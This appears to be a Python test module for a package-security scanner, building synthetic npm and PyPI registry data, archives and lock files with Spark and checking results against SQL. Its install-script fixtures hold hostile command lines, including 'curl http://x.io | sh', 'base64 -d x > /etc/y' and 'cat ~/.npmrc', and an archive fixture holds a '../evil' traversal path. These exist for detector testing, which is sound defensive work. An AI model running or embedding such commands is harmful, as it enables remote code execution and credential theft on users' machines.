"""Package sources: registry documents, archives, lock files, file trees and install scripts, made of the tables by Spark and read back.

Documents and files are written with columns of the tables, so that SQL can say
from the same columns what reading them must give.
"""

from pyspark.sql import functions as F

from quillon.functions import coordinates as K
from quillon.functions import text as X
from quillon.functions.core import SEVERITIES
from quillon.functions.folders import shared_dir
from quillon.operators import detect, diff, exports, provenance, scoring
from quillon.plans.registry import query
from quillon.sources import archives, catalogue, lockfiles, registry
from quillon.sources.catalogue import SQL as CATALOGUE

# Packages of the one registry: customers with an order, each order a version; every tenth is scoped.
_NPM = """v AS (SELECT CASE WHEN o_custkey % 10 = 0 THEN concat('@s/pkg-', o_custkey) ELSE concat('pkg-', o_custkey) END AS name, o_custkey AS c, o_orderkey AS k, concat('1.', o_orderkey % 100, '.', o_orderkey) AS version, o_orderdate AS published_at,
  max(o_orderkey) OVER (PARTITION BY o_custkey) AS latest, min(o_orderkey) OVER (PARTITION BY o_custkey) AS oldest FROM orders)"""


def text_of(*parts):
    return F.concat(*(F.lit(p) if isinstance(p, str) else p.cast("string") for p in parts))


def npm_documents(orders):
    """(json): a document for each package, with the times, tags and manifests of its versions; a document is as long as its package's history."""
    c, k = F.col("o_custkey"), F.col("o_orderkey")
    name = F.when(c % 10 == 0, text_of("@s/pkg-", c)).otherwise(text_of("pkg-", c))
    version = text_of("1.", k % 100, ".", k)
    time = F.when(k % 11 == 0, "never").otherwise(F.date_format("o_orderdate", "yyyy-MM-dd'T'HH:mm:ss'Z'"))
    url = F.when(k % 4 == 0, text_of("git+https://github.com/o/r", k, ".git")).when(k % 4 == 1, text_of("github:o/r", k)).when(k % 4 == 2, text_of("git@GitHub.com:o/r", k, ".git"))
    manifest = F.struct(
        version.alias("version"), F.when(k % 3 > 0, "MIT").alias("license"), F.array(text_of("k", k % 3), F.lit("x")).alias("keywords"), F.when(k % 5 == 0, F.create_map(F.lit("postinstall"), text_of("node ", k))).alias("scripts"),
        F.struct(url.alias("url")).alias("repository"), F.struct(text_of("https://r.io/", k, ".tgz").alias("tarball"), F.when(k % 2 == 0, text_of("sha512-", k)).alias("integrity"), F.md5(k.cast("string").cast("binary")).alias("shasum")).alias("dist"),
    )
    rows = orders.select(name.alias("name"), version.alias("version"), time.alias("time"), manifest.alias("manifest"), k.alias("k"))
    grouped = rows.groupBy("name").agg(
        F.map_from_entries(F.collect_list(F.struct("version", "time"))).alias("times"), F.map_from_entries(F.collect_list(F.struct("version", "manifest"))).alias("versions"), F.max_by("version", "k").alias("latest"), F.min_by("version", "k").alias("oldest")
    )
    times = F.map_concat(F.create_map(F.lit("created"), F.lit("2000-01-01T00:00:00Z"), F.lit("modified"), F.lit("2001-01-01T00:00:00Z")), "times")
    tags = F.create_map(F.lit("latest"), F.col("latest"), F.lit("next"), F.col("oldest"))
    return grouped.select(F.to_json(F.struct("name", tags.alias("dist-tags"), times.alias("time"), "versions")).alias("json"))


@query(f"WITH {_NPM} SELECT name, version, epoch(published_at)::BIGINT AS published FROM v WHERE k % 11 <> 0")
def npm_release_times(orders):
    """Releases of registry documents; times that are none are left out."""
    return registry.npm_releases(npm_documents(orders)).select("name", "version", F.unix_seconds("published_at").alias("published"))


@query(f"""WITH {_NPM} SELECT name, version, CASE WHEN k % 3 > 0 THEN 'MIT' END AS license, concat('k', k % 3, ',x') AS keywords, CASE WHEN k % 5 = 0 THEN concat('node ', k) END AS postinstall,
  CASE WHEN k % 4 < 3 THEN concat('https://github.com/o/r', k) END AS repository, concat('https://r.io/', k, '.tgz') AS archive, CASE WHEN k % 2 = 0 THEN concat('sha512-', k) ELSE md5(CAST(k AS VARCHAR)) END AS integrity,
  concat_ws(',', CASE WHEN k = latest THEN 'latest' END, CASE WHEN k = oldest THEN 'next' END) AS tags, CASE WHEN c % 2 = 0 THEN c * 7 END AS downloads FROM v""")
def npm_version_rows(orders):
    """Versions of registry documents with their metadata, tags and downloads."""
    c = F.col("o_custkey")
    downloads = orders.where(c % 2 == 0).select(F.when(c % 10 == 0, text_of("@s/pkg-", c)).otherwise(text_of("pkg-", c)).alias("name"), (c * 7).alias("downloads")).distinct()
    rows = registry.npm_versions(npm_documents(orders), downloads)
    return rows.select("name", "version", "license", F.array_join("keywords", ",").alias("keywords"), F.col("scripts")["postinstall"].alias("postinstall"), "repository", "archive", "integrity", F.array_join("tags", ",").alias("tags"), "downloads")


@query(f"""WITH {_NPM}, w AS (SELECT DISTINCT name, unnest(['latest', 'next', '0.0.0', concat('1.', oldest % 100, '.', oldest)]) AS wanted, latest, oldest FROM v)
  SELECT name, wanted, CASE wanted WHEN 'latest' THEN concat('1.', latest % 100, '.', latest) WHEN '0.0.0' THEN NULL ELSE concat('1.', oldest % 100, '.', oldest) END AS version FROM w""")
def npm_resolution(orders):
    """Exact versions, tags, and what is neither, resolved in registry documents."""
    versions = registry.npm_versions(npm_documents(orders))
    wanted = versions.groupBy("name").agg(F.max(F.when(F.array_contains("tags", "next"), F.col("version"))).alias("oldest"))
    return registry.resolve(versions, wanted.select("name", F.explode(F.array(F.lit("latest"), F.lit("next"), F.lit("0.0.0"), F.col("oldest"))).alias("wanted")))


# Packages of the other registry: suppliers, with a release for each of their parts' remainders.
_PYPI = "r AS (SELECT DISTINCT l_suppkey AS s, l_partkey % 20 AS k FROM lineitem)"


def pypi_documents(lineitem):
    s, k = F.col("s"), F.col("k")
    rows = lineitem.select(F.col("l_suppkey").alias("s"), (F.col("l_partkey") % 20).alias("k")).distinct()
    file = lambda name, kind, day: F.struct(name.alias("filename"), F.lit(kind).alias("packagetype"), text_of("https://f.io/", name).alias("url"), day.alias("upload_time_iso_8601"))
    day = lambda n: text_of("2020-01-", F.lpad(n.cast("string"), 2, "0"), "T00:00:00Z")
    base = text_of("my_pkg-", s, "-", k)
    files = F.array(file(text_of(base, ".whl"), "bdist_wheel", day(k % 9 + 2)), file(text_of(base, "-b.tar.gz"), "bdist_dumb", day(k % 9 + 1)), file(text_of(base, ".tar.gz"), "sdist", F.when(k % 3 == 0, "soon").otherwise(day(k % 9 + 5))))
    releases = rows.groupBy("s").agg(F.map_from_entries(F.collect_list(F.struct(text_of(k, ".0"), files))).alias("releases"))
    links = F.when(s % 3 == 0, F.create_map(F.lit("Docs"), F.lit("https://d.io"), F.lit("Source Code"), text_of("https://gitlab.com/m/p", s))).when(s % 3 == 1, F.create_map(F.lit("Bugs"), text_of("https://github.com/m/p", s, ".git"), F.lit("Homepage"), F.lit("ftp://none")))
    info = F.struct(text_of("My_Pkg..", s).alias("name"), F.lit("1.0").alias("version"), text_of("a, b", s % 4, "  c").alias("keywords"), F.when(s % 3 == 2, text_of("https://H", s, ".io")).alias("home_page"), links.alias("project_urls"))
    return releases.select(F.to_json(F.struct(info.alias("info"), "releases")).alias("json"))


@query(f"WITH {_PYPI} SELECT concat('my-pkg-', s) AS name, concat(k, '.0') AS version, CAST(k % 9 + 1 AS INTEGER) AS day FROM r")
def pypi_release_days(lineitem):
    """A release came with its earliest file."""
    return registry.pypi_releases(pypi_documents(lineitem)).select("name", "version", F.dayofmonth("published_at").alias("day"))


@query(f"""WITH {_PYPI} SELECT DISTINCT concat('my-pkg-', s) AS name, concat('a,b', s % 4, ',c') AS keywords,
  CASE s % 3 WHEN 0 THEN concat('https://gitlab.com/m/p', s) WHEN 1 THEN concat('https://github.com/m/p', s) ELSE concat('https://h', s, '.io/') END AS repository FROM r""")
def pypi_package_rows(lineitem):
    """Names in their one form, keywords, and the repository by the order of links."""
    return registry.pypi_packages(pypi_documents(lineitem)).select("name", F.array_join("keywords", ",").alias("keywords"), "repository")


@query(f"WITH {_PYPI} SELECT concat('my-pkg-', s) AS name, concat(k, '.0') AS version, concat('my_pkg-', s, '-', k, '.tar.gz') AS filename, concat('https://f.io/my_pkg-', s, '-', k, '.tar.gz') AS url FROM r")
def pypi_source_archives(lineitem):
    """The archive that is unpacked: an sdist before any other tar.gz."""
    return registry.pypi_archives(pypi_documents(lineitem))


@query("""WITH w AS (SELECT o_orderkey AS k, concat('p', o_custkey) AS name, concat(CASE WHEN o_orderkey % 2 = 0 THEN 'v' ELSE '' END, '1.', o_orderkey) AS version, concat('1.', o_orderkey) AS bare FROM orders)
  SELECT name, version, CASE k % 5 WHEN 0 THEN concat('v', bare) WHEN 1 THEN concat('release-', bare) WHEN 2 THEN concat('pkg@', bare) ELSE concat(bare, '-release') END AS tag FROM w WHERE k % 5 < 4""")
def repository_tags(orders):
    """The tag of a version: a customary one, else one that ends in the version."""
    k = F.col("o_orderkey")
    bare, name = text_of("1.", k), text_of("p", F.col("o_custkey"))
    wanted = orders.select(name.alias("name"), F.concat(F.when(k % 2 == 0, "v").otherwise(""), bare).alias("version"))
    own = F.when(k % 5 == 0, F.array(text_of("v", bare), bare, text_of("x@", bare))).when(k % 5 == 1, F.array(text_of("a/", bare), text_of("release-", bare))).when(k % 5 == 2, F.array(text_of("pkg@", bare), text_of("pkg@", bare, "0"))).when(k % 5 == 3, F.array(text_of(bare, "-release"), text_of("z-", bare))).otherwise(F.array(F.lit("latest")))
    return registry.resolve_tags(wanted, orders.select(name.alias("name"), F.explode(own).alias("tag")))


@query("""WITH n AS (SELECT c_custkey AS k, CASE c_custkey % 6 WHEN 0 THEN c_name WHEN 1 THEN lower(c_name) WHEN 2 THEN concat('@s/', lower(c_name)) WHEN 3 THEN concat('.', lower(c_name)) WHEN 4 THEN repeat('a', 150 + CAST(c_custkey % 100 AS INTEGER)) ELSE concat(c_name, '-') END AS name FROM customer)
  SELECT e.ecosystem, k FROM n, (VALUES ('NPM', '^(@[a-z0-9~-][a-z0-9._~-]*/)?[a-z0-9~-][a-z0-9._~-]*$'), ('PYPI', '^[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?$')) e(ecosystem, pattern) WHERE regexp_matches(name, pattern) AND length(name) <= 214""")
def valid_names(customer):
    """Names that a registry allows."""
    k, lower = F.col("c_custkey"), F.lower("c_name")
    name = F.when(k % 6 == 0, F.col("c_name")).when(k % 6 == 1, lower).when(k % 6 == 2, text_of("@s/", lower)).when(k % 6 == 3, text_of(".", lower)).when(k % 6 == 4, F.repeat(F.lit("a"), (150 + k % 100).cast("int"))).otherwise(text_of(F.col("c_name"), "-"))
    rows = customer.select(k.alias("k"), name.alias("name"))
    npm, pypi = (registry.valid(rows, e).select(F.lit(e).alias("ecosystem"), "k") for e in ("NPM", "PYPI"))
    return npm.unionByName(pypi)


@query("""SELECT concat('s-', doc_id // 40, '.tgz') AS archive, CASE doc_id % 50 WHEN 7 THEN '../evil' WHEN 8 THEN '/abs' ELSE concat(doc_id, '.txt') END AS path, CAST(strlen(coalesce(text, '')) AS BIGINT) AS size,
  CASE WHEN doc_id % 50 NOT IN (7, 8) THEN sha256(coalesce(text, '')) END AS sha256, CASE WHEN doc_id % 50 NOT IN (7, 8) THEN doc_id % 50 = 9 END AS is_binary, CASE doc_id % 50 WHEN 7 THEN 'path leaves the archive' WHEN 8 THEN 'absolute path' END AS rejected
  FROM (SELECT doc_id, CASE WHEN doc_id % 50 = 9 THEN concat(chr(1), chr(1), chr(1), chr(2)) ELSE text END AS text FROM documents WHERE doc_id IS NOT NULL)""")
def archive_files(spark, documents):
    """Archives of forty texts each are written by the tasks, and read by a data source that streams their entries."""
    k = F.col("doc_id")
    text = F.when(k % 50 == 9, "\x01\x01\x01\x02").otherwise(F.coalesce("text", F.lit("")))
    path = F.when(k % 50 == 7, "../evil").when(k % 50 == 8, "/abs").otherwise(text_of("package/", k, ".txt"))
    files = documents.where("doc_id IS NOT NULL").select(text_of("s-", F.floor(k / 40)).alias("archive"), path.alias("path"), text.cast("binary").alias("content"))
    folder = shared_dir(spark, "archives")
    archives.pack(files, folder)
    return archives.read(spark, folder).select("archive", "path", "size", "sha256", "is_binary", "rejected")


_LOCKED = "e AS (SELECT DISTINCT l_suppkey AS s, l_partkey % 50 AS k FROM lineitem)"


@query(f"""WITH {_LOCKED}, f AS (SELECT *, concat('lock-', s) AS file, CASE s % 3 WHEN 0 THEN 'package-lock v3' WHEN 1 THEN 'package-lock v1' ELSE 'yarn' END AS format FROM e)
  SELECT file, format, 'entry' AS kind, concat('p', k) AS name, concat(k, '.0.0') AS version, NULL AS child FROM f UNION ALL SELECT file, format, 'edge', concat('p', k), NULL, concat('c', k % 7) FROM f
  UNION ALL SELECT file, format, 'root', NULL, NULL, concat('p', k) FROM f WHERE s % 3 < 2""")
def lockfile_rows(lineitem):
    """Entries, edges and roots of lock files in three formats."""
    s, k = F.col("s"), F.col("k")
    rows = lineitem.select(F.col("l_suppkey").alias("s"), (F.col("l_partkey") % 50).alias("k")).distinct()
    name, child = text_of("p", k), text_of("c", k % 7)
    one = lambda key: F.create_map(key, F.lit("1"))
    grouped = rows.groupBy("s").agg(
        F.map_from_entries(F.collect_list(F.struct(name, F.lit("1")))).alias("roots"),
        F.map_from_entries(F.collect_list(F.struct(text_of("node_modules/", name), F.struct(text_of(k, ".0.0").alias("version"), one(child).alias("dependencies"))))).alias("packages"),
        F.map_from_entries(F.collect_list(F.struct(name, F.struct(text_of(k, ".0.0").alias("version"), one(child).alias("requires"))))).alias("nested"),
        F.array_join(F.array_sort(F.collect_list(text_of(name, "@^1:\n  version \"", k, ".0.0\"\n  dependencies:\n    ", child, " \"1\"\n"))), "\n").alias("yarn"),
    )
    v3 = F.concat(F.lit('{"lockfileVersion":3,"packages":{"":{"dependencies":'), F.to_json("roots"), F.lit("},"), F.substring(F.to_json("packages"), 2, 1 << 30), F.lit("}"))
    v1 = F.concat(F.lit('{"lockfileVersion":1,"dependencies":'), F.to_json("nested"), F.lit("}"))
    text = F.when(s % 3 == 0, v3).when(s % 3 == 1, v1).otherwise(F.concat(F.lit("# yarn lockfile v1\n\n"), "yarn"))
    return lockfiles.read(grouped.select(text_of("lock-", s).alias("file"), text.alias("text")))


_CHANGED = "l AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS x, generate_subscripts(string_split(text, chr(10)), 1) AS i FROM documents WHERE text <> ''), c AS (SELECT *, (i + doc_id) % 9 = 4 AS changed FROM l)"


def pairs(documents):
    """Texts and the same with some lines changed to what no line says."""
    lines = F.transform(F.split("text", "\n", -1), lambda x, i: F.when((i + 1 + F.col("doc_id")) % 9 == 4, text_of("\x01changed ", i)).otherwise(x))
    return documents.where("text <> ''").select(F.col("doc_id").alias("pair"), F.col("text").alias("old"), F.array_join(lines, "\n").alias("new"))


@query(f"WITH {_CHANGED} SELECT doc_id AS pair, CAST(count_if(NOT changed) AS BIGINT) AS same, CAST(count_if(changed) AS BIGINT) AS deleted, CAST(count_if(changed) AS BIGINT) AS inserted, CAST(sum(CASE WHEN changed THEN i ELSE 0 END) AS BIGINT) AS at FROM c GROUP BY 1")
def line_differences(documents):
    """How many lines of each text stay, go and come, and where they come."""
    rows = diff.compare(pairs(documents))
    n = lambda kind: F.count_if(F.col("kind") == kind)
    return rows.groupBy("pair").agg(n("same").alias("same"), n("delete").alias("deleted"), n("insert").alias("inserted"), F.sum(F.when(F.col("kind") == "insert", F.col("new_line")).otherwise(0)).alias("at"))


@query(f"""WITH {_CHANGED}, runs AS (SELECT *, sum(CASE WHEN changed THEN 0 ELSE 1 END) OVER (PARTITION BY doc_id ORDER BY i) AS run FROM c), r AS (SELECT doc_id, changed, row_number() OVER (PARTITION BY doc_id ORDER BY i, j) AS p FROM (SELECT doc_id, i, changed, unnest(CASE WHEN changed THEN [0, 1] ELSE [0] END) AS j FROM c)),
  s AS (SELECT *, bool_or(changed) OVER (PARTITION BY doc_id ORDER BY p ROWS BETWEEN 3 PRECEDING AND 3 FOLLOWING) AS shown FROM r), g AS (SELECT *, sum(CASE WHEN shown THEN 1 ELSE 0 END) OVER (PARTITION BY doc_id ORDER BY p) AS run FROM s)
  SELECT doc_id AS pair, CAST(count_if(shown) AS BIGINT) AS shown, CAST(count(DISTINCT CASE WHEN NOT shown THEN run END) AS BIGINT) AS gaps, CAST(count_if(NOT shown) AS BIGINT) AS hidden FROM g GROUP BY 1""")
def collapsed_differences(documents):
    """Differences with three lines around each change; what lies between is a gap that tells its length."""
    rows = diff.collapsed(pairs(documents))
    gap = F.col("kind") == "gap"
    return rows.groupBy("pair").agg(F.count_if(~gap).alias("shown"), F.count_if(gap).alias("gaps"), F.sum(F.when(gap, F.col("text").cast("long")).otherwise(0)).alias("hidden"))


def installs(customer):
    """Packages with scripts, and the files that these run."""
    k = F.col("c_custkey")
    one = lambda hook, body: F.create_map(F.lit(hook), F.lit(body))
    scripts = (
        F.when(k % 7 == 0, one("postinstall", "curl http://x.io | sh")).when(k % 7 == 1, one("prepare", "node -e 1")).when(k % 7 == 2, one("test", "wget x")).when(k % 7 == 3, one("preinstall", "node ./run.js"))
        .when(k % 7 == 4, one("install", "base64 -d x > /etc/y")).when(k % 7 == 5, one("postuninstall", "cat ~/.npmrc")).otherwise(F.create_map().cast("map<string,string>"))
    )
    packages = customer.select(k.cast("string").alias("package"), scripts.alias("scripts"))
    body = F.when(k % 2 == 0, "let _0xab12 = 1").otherwise("module.exports = 1")
    return packages, customer.where(k % 7 == 3).select(k.cast("string").alias("package"), F.lit("run.js").alias("path"), body.alias("text"))


_INSTALLED = """h AS (SELECT CAST(c_custkey AS VARCHAR) AS package, rule_id, confidence, label FROM customer, (VALUES (0, 'Q-INS-001', 0.95, 'postinstall'), (0, 'Q-INS-002', 0.9, 'curl'), (0, 'Q-INS-005', 0.85, 'url'), (0, 'Q-INS-005', 0.85, 'curl'), (1, 'Q-INS-002', 0.9 * 0.6, 'node -e'),
  (3, 'Q-INS-001', 0.95, 'preinstall'), (3, 'Q-INS-007', 0.8, 'preinstall: names'), (4, 'Q-INS-001', 0.95, 'install'), (4, 'Q-INS-003', 0.85, 'base64 -d'), (4, 'Q-INS-006', 0.8, 'redirect'), (5, 'Q-INS-004', 0.9 * 0.6, '.npmrc')) r(k, rule_id, confidence, label)
  WHERE c_custkey % 7 = k AND (rule_id <> 'Q-INS-007' OR c_custkey % 2 = 0))"""


@query(f"WITH {_INSTALLED} SELECT package, rule_id, CAST(confidence AS DOUBLE) AS confidence, label FROM h")
def install_rules(customer):
    """What runs on install, what it does, and the files that it runs."""
    rows = detect.install_signals(*installs(customer))
    return rows.select("package", "rule_id", F.round("confidence", 6).alias("confidence"), "label")


@query(f"""WITH {_INSTALLED}, n AS (SELECT rule_id, count(DISTINCT package) AS fired FROM h GROUP BY 1), p AS (SELECT count(*) AS n FROM customer)
  SELECT r.rule_id, p.n AS packages, CAST(CASE WHEN r.enabled THEN coalesce(fired, 0) ELSE 0 END AS BIGINT) AS fired, CASE WHEN r.enabled THEN 0 ELSE p.n END AS skipped FROM rule r, p LEFT JOIN n ON n.rule_id = r.rule_id""")
def dense_install_rules(customer, rule):
    """Every package and rule, fired or not, summed up by rule."""
    packages, files = installs(customer)
    rows = detect.dense_signals(packages, detect.install_signals(packages, files), rule)
    return rows.groupBy("rule_id").agg(F.count("*").alias("packages"), F.count_if("fired").alias("fired"), F.count_if(F.col("skipped").isNotNull()).alias("skipped"))


@query(f"""WITH {_INSTALLED}, r AS ({CATALOGUE}), o AS (SELECT package, rule_id, max(confidence) AS c FROM h GROUP BY 1, 2)
  SELECT package, floor(CAST(sum(weight * c) AS DOUBLE) * 10000 + 0.5) / 10000 AS score, ({SEVERITIES!r})[min(list_position({SEVERITIES!r}, severity))] AS worst, count(*) AS rules FROM o JOIN r USING (rule_id) GROUP BY 1""")
def install_scores(spark, customer):
    """What runs on install, weighed by the catalogue of rules."""
    return scoring.weighed(detect.install_signals(*installs(customer)), catalogue.catalogue(spark))


@query(f"WITH r AS ({CATALOGUE}) SELECT r.rule_id, r.weight, r.severity, r.says, count(h.rule_id) AS hits, CAST(count_if(h.severity = r.severity) AS BIGINT) AS as_severe FROM r LEFT JOIN hit h ON h.rule_id = r.rule_id GROUP BY ALL")
def rule_catalogue(spark, hit):
    """The catalogue, with how often each rule was hit, and how often with the severity that it has there."""
    hits = hit.groupBy("rule_id", F.col("severity").alias("found")).agg(F.count("*").alias("n"))  # a few hundred rows
    rows = catalogue.catalogue(spark).join(hits, "rule_id", "left")
    return rows.groupBy("rule_id", "weight", "severity", "says").agg(F.coalesce(F.sum("n"), F.lit(0)).alias("hits"), F.coalesce(F.sum(F.when(F.col("found") == F.col("severity"), F.col("n"))), F.lit(0)).alias("as_severe"))


@query("""SELECT c_custkey AS package, path FROM (SELECT c_custkey, unnest(CASE WHEN c_custkey % 3 = 0 THEN ['a.node', 'lib/B.DLL', 'c.js'] ELSE ['x.wasm'] END) AS path FROM customer WHERE c_custkey % 5 <> 0 AND c_custkey % 4 <> 0) WHERE regexp_matches(path, '(?i)\\.(node|dll|wasm)$')""")
def native_files(customer):
    """Native files of packages that declare none."""
    k = F.col("c_custkey")
    packages = customer.select(k.alias("package"), F.when(k % 5 == 0, F.create_map(F.lit("build"), F.lit("node-gyp build"))).otherwise(F.create_map().cast("map<string,string>")).alias("scripts"), F.when(k % 4 == 0, F.array(F.lit("native"))).alias("keywords"))
    files = customer.select(k.alias("package"), F.explode(F.when(k % 3 == 0, F.array(F.lit("a.node"), F.lit("lib/B.DLL"), F.lit("c.js"))).otherwise(F.array(F.lit("x.wasm")))).alias("path"), F.lit(None).cast("string").alias("text"))
    return detect.native_signals(packages, files).select("package", "path")


@query("""SELECT page_id, CASE page_id % 7 WHEN 0 THEN concat('https://github.com/o/r', page_id) WHEN 1 THEN concat('https://github.com/o/r', page_id) WHEN 2 THEN concat('https://host.org/a/b', page_id) WHEN 4 THEN concat('https://x', page_id, '.io/')
  WHEN 5 THEN concat('https://github.com/s/a', page_id) END AS repository FROM pages""")
def repository_urls(pages):
    """One form for the ways to name a repository."""
    k = F.col("page_id")
    url = (
        F.when(k % 7 == 0, text_of("git+https://github.com/o/r", k, ".git")).when(k % 7 == 1, text_of("o/r", k)).when(k % 7 == 2, text_of("git@HOST.org:a/b", k, ".git")).when(k % 7 == 3, text_of("ftp://x", k)).when(k % 7 == 4, text_of("https://X", k, ".io"))
        .when(k % 7 == 5, text_of("ssh://git@github.com/s/a", k, ".git")).otherwise("")
    )
    return pages.select("page_id", X.repository_url(url).alias("repository"))


@query(r"""SELECT doc_id, coalesce(CASE WHEN length(t) > 120 THEN concat(substring(t, 1, 119), '…') ELSE t END, '') AS safe FROM (SELECT doc_id, trim(regexp_replace(regexp_replace(regexp_replace(concat(chr(8203), text, chr(7)), '[\x{ad}\x{61c}\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2060}-\x{2064}\x{2066}-\x{2069}\x{feff}]', '', 'g'),
  '[\x00-\x08\x0B\x0C\x0E-\x1F\x7F-\x{9f}]', '�', 'g'), '[ \t\n\x0B\f\r]+', ' ', 'g'), ' ') AS t FROM documents)""")
def safe_texts(documents):
    """Texts as they may be shown."""
    return documents.select("doc_id", X.safe(F.concat(F.lit("​"), "text", F.lit("\x07")), 120).alias("safe"))


@query("SELECT doc_id, length(substring(text, 1, p - 1)) - length(replace(substring(text, 1, p - 1), chr(10), '')) + 1 AS line, trim(regexp_replace(substring(text, greatest(p - 80, 1), p - greatest(p - 80, 1) + 80), '[ \\t\\n\\x0B\\f\\r]+', ' ', 'g'), ' ') AS excerpt FROM (SELECT doc_id, text, instr(text, 'icense') AS p FROM documents) WHERE p > 0")
def excerpts(documents):
    """Where a word is first said, by line, and what stands around it."""
    rows = documents.select("doc_id", "text", F.instr("text", "icense").alias("p")).where("p > 0")
    return rows.select("doc_id", X.line_of(F.col("text"), F.col("p")).alias("line"), X.excerpt(F.col("text"), F.col("p")).alias("excerpt"))


@query("""SELECT c_custkey, a IN (0, 10, 127) OR a >= 224 OR (a = 100 AND b BETWEEN 64 AND 127) OR (a = 169 AND b = 254) OR (a = 172 AND b BETWEEN 16 AND 31) OR (a = 192 AND b = 0 AND c IN (0, 2)) OR (a = 192 AND b = 168) OR (a = 198 AND b IN (18, 19)) OR (a = 198 AND b = 51 AND c = 100) OR (a = 203 AND b = 0 AND c = 113) AS blocked
  FROM (SELECT c_custkey, [192, 198, 203, 10, 172, 100, 169, 8, 240, 127, 99][1 + c_custkey % 11] AS a, [0, 18, 51, 168, 254, 100, 20, 64][1 + c_custkey % 8] AS b, [0, 2, 100, 113, 5][1 + c_custkey % 5] AS c FROM customer)""")
def blocked_addresses(customer):
    """Addresses that no connection may reach."""
    k = F.col("c_custkey")
    part = lambda values: F.element_at(F.array(*map(F.lit, values)), (k % len(values) + 1).cast("int"))
    address = F.concat_ws(".", *(part(v).cast("string") for v in ([192, 198, 203, 10, 172, 100, 169, 8, 240, 127, 99], [0, 18, 51, 168, 254, 100, 20, 64], [0, 2, 100, 113, 5])), F.lit("9"))
    return customer.select("c_custkey", X.is_blocked(address).alias("blocked"))


@query("SELECT c_custkey, concat('name=', lower(trim(c_name)), '&segment=', lower(trim(c_mktsegment))) AS key FROM customer")
def bucket_keys(customer):
    """The key of a limiter's bucket, whatever the order of its parts."""
    return customer.select("c_custkey", X.bucket_key(F.create_map(F.lit("segment"), F.concat(F.lit(" "), "c_mktsegment"), F.lit("name"), F.upper("c_name"))).alias("key"))


@query("SELECT source AS package, CAST(count(DISTINCT sha256(replace(text, chr(13) || chr(10), chr(10)))) AS BIGINT) AS files, CAST(count(DISTINCT sha256(replace(text, chr(10), chr(13) || chr(10)))) AS BIGINT) AS raw FROM documents GROUP BY 1")
def normalised_hashes(documents):
    """Different files of each package once line ends are alike, and as they are."""
    text = F.replace("text", F.lit("\n"), F.lit("\r\n"))
    return documents.groupBy(F.col("source").alias("package")).agg(F.countDistinct(provenance.hash_normalised(text)).alias("files"), F.countDistinct(provenance.hash_raw(text)).alias("raw"))


@query("SELECT source AS package FROM documents WHERE doc_id % 40 IN (3, 5) GROUP BY 1")
def building_packages(documents):
    """Packages whose repository builds what it publishes: sources that compile, but not declarations."""
    k = F.col("doc_id")
    path = F.when(k % 40 == 3, "src/index.tsx").when(k % 40 == 5, "src/a.ts").when(k % 40 == 7, "types/a.d.ts").otherwise(text_of("src/", k, ".py"))
    return provenance.builds(documents.select(F.col("source").alias("package"), path.alias("path")))


@query("SELECT c_custkey, format('{:08x}', list_reduce(list_prepend(2166136261::HUGEINT, list_transform(regexp_extract_all(c_name, '.'), lambda c: ord(c)::HUGEINT)), lambda h, c: xor(h, c) * 16777619 % 4294967296)::BIGINT) AS identifier FROM customer")
def identifiers(customer):
    """Stable identifiers of texts."""
    return customer.select("c_custkey", exports.identifier(F.col("c_name")).alias("identifier"))


@query("""SELECT c_custkey, CASE c_custkey % 3 WHEN 0 THEN c_name WHEN 1 THEN substring(c_name, 1, 10) END AS text, CAST(CASE c_custkey % 4 WHEN 0 THEN 0 ELSE 3 END AS INTEGER) AS items FROM customer""")
def bounded_fields(customer):
    """Loose fields of documents, within bounds."""
    k = F.col("c_custkey")
    text = K.bounded_text(F.when(k % 3 == 0, F.col("c_name")).when(k % 3 == 1, F.substring("c_name", 1, 10)).otherwise(""))
    items = F.when(k % 4 > 0, F.array(F.lit("a"), F.lit(None), F.lit(""), F.lit("b"), F.lit("c"), F.lit("d")))
    return customer.select("c_custkey", text.alias("text"), F.size(K.bounded_list(items, 3)).alias("items"))
